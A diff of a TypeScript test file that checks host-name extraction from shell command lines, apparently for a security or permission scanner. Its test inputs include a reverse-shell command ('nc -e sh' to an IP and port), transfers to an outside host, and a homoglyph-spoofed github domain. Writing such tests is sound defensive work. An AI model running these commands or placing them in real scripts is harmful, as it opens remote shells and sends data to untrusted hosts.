@@ -231,11 +231,20 @@ test.each<[string, string[]]>([
 test.each<[string, string[]]>([
   ['ssh a@get-fast.top; ssh -i key.pem get-fast.top cat a.txt', ['get-fast.top']],
   ['scp a.txt b@get-fast.top:/x; rsync -a a.b/c get-fast.top:d', ['get-fast.top']],
-  ['nc get-fast.top 4444; curl jsr.io/x', ['get-fast.top', 'jsr.io']],
+  [
+    'nc get-fast.top 4444; curl jsr.io/x; http POST deno.com/x',
+    ['get-fast.top', 'jsr.io', 'deno.com'],
+  ],
+  ['for far in https://jsr.io; do curl "$far"; done', ['jsr.io']],
   ['nc -e sh 45.33.2.1 4444; ssh a@gіthub.com', ['45.33.2.1', 'xn--gthub-n2e.com']],
   ['curl -d @a.json -o out.json "$URL"; wget -O a.zip "$URL"', []],
 ])('hosts without a scheme: %s -> %j', (line, names) => {
   expect(collectNames('hosts', shell(line))).toEqual(names)
+})
+
+test('a script names the hosts of all addresses but those that it prints', () => {
+  const text = 'far() { curl "$1"; }\nfar https://jsr.io\necho https://deno.com\n'
+  expect(collectNames('hosts', shell(text), { 'a.sh': text })).toEqual(['jsr.io'])
 })
 
 test.each<[string, string[]]>([
